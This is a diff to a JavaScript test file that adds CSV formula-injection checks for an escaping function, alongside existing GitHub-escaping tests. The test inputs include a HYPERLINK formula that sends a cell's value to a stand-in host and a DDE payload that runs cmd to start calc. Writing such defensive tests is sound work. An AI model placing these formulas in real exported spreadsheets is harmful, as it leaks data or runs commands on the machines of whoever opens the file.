@@ -66,6 +66,13 @@ test('terminal text is neutralised', () => {
 test('CSV and GitHub escaping', () => {
   expect(csvField('a,"b"')).toBe('"a,""b"""');
   expect(csvField(null)).toBe('');
+  // Formula injection: a cell that starts like a formula is made text (OWASP), quoted as CSV needs.
+  expect(csvField('=HYPERLINK("http://x.example/?q="&A1,"go")')).toBe('"\'=HYPERLINK(""http://x.example/?q=""&A1,""go"")"');
+  expect(csvField('+1+1')).toBe("'+1+1");
+  expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
+  expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
+  expect(csvField('\tx')).toBe("'\tx");
+  expect(csvField('a=b')).toBe('a=b');
   expect(escapeGithubData('50% done\r\nnext')).toBe('50%25 done%0D%0Anext');
   expect(escapeGithubProperty('C:\\a,b')).toBe('C%3A\\a%2Cb');
 });
